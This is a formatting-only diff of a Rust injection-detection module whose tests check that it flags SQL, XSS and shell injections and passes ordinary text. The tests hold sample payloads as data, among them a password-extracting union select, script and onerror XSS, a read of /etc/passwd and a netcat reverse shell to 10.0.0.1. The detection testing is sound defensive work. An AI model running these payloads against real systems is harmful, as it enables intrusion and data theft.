@@ -49,7 +49,8 @@ pub fn confirm(confirm: Confirm, raw: &[u8], transformed: &[u8], map: UnicodeMap
     // Only data needs a parser's word; a fragment of no other shape scores as its pattern says. The shape is the
     // value's as the application receives it: decoding it further is a guess, which finds injections, not data.
     let shape = shape::data_shape(raw);
-    let Some(shape) = shape.filter(|shape| confirm != Confirm::Code || *shape != Shape::Token) else {
+    let Some(shape) = shape.filter(|shape| confirm != Confirm::Code || *shape != Shape::Token)
+    else {
         return Confirmation {
             confirmed: true,
             reason: "a fragment, not data: scored as the pattern says".to_owned(),
@@ -87,16 +88,28 @@ mod tests {
     use super::*;
 
     fn confirmed(kind: Confirm, value: &str) -> bool {
-        confirm(kind, value.as_bytes(), value.as_bytes(), UnicodeMap::default()).confirmed
+        confirm(
+            kind,
+            value.as_bytes(),
+            value.as_bytes(),
+            UnicodeMap::default(),
+        )
+        .confirmed
     }
 
     #[test]
     fn injections_are_confirmed_in_their_encodings() {
         assert!(confirmed(Confirm::Sql, "1' or '1'='1"));
         assert!(confirmed(Confirm::Sql, "1%27%20or%20%271%27%3D%271"));
-        assert!(confirmed(Confirm::Sql, "1%2527%2520union%2520select%2520password%2520from%2520users--"));
+        assert!(confirmed(
+            Confirm::Sql,
+            "1%2527%2520union%2520select%2520password%2520from%2520users--"
+        ));
         assert!(confirmed(Confirm::Xss, "<script>alert(1)</script>"));
-        assert!(confirmed(Confirm::Xss, "&lt;img src=x onerror=alert(1)&gt;"));
+        assert!(confirmed(
+            Confirm::Xss,
+            "&lt;img src=x onerror=alert(1)&gt;"
+        ));
         assert!(confirmed(Confirm::Xss, "\\u003csvg onload=alert(1)\\u003e"));
         assert!(confirmed(Confirm::Shell, "127.0.0.1; cat /etc/passwd"));
         assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
@@ -106,13 +119,25 @@ mod tests {
 
     #[test]
     fn ordinary_text_is_not() {
-        assert!(!confirmed(Confirm::Sql, "Please select the size you'd like from the drop-down"));
-        assert!(!confirmed(Confirm::Sql, r#"{"filters":[{"field":"price","op":">","value":10}]}"#));
-        assert!(!confirmed(Confirm::Xss, "Tom & Jerry <3 the new season, we watched it twice"));
+        assert!(!confirmed(
+            Confirm::Sql,
+            "Please select the size you'd like from the drop-down"
+        ));
+        assert!(!confirmed(
+            Confirm::Sql,
+            r#"{"filters":[{"field":"price","op":">","value":10}]}"#
+        ));
+        assert!(!confirmed(
+            Confirm::Xss,
+            "Tom & Jerry <3 the new season, we watched it twice"
+        ));
         assert!(!confirmed(
             Confirm::Xss,
             r#"<p>Merci <span style="color: #e03e2d;">beaucoup</span> pour la livraison</p>"#
         ));
-        assert!(!confirmed(Confirm::Shell, "Tom & Jerry; cat lovers will like it"));
+        assert!(!confirmed(
+            Confirm::Shell,
+            "Tom & Jerry; cat lovers will like it"
+        ));
     }
 }
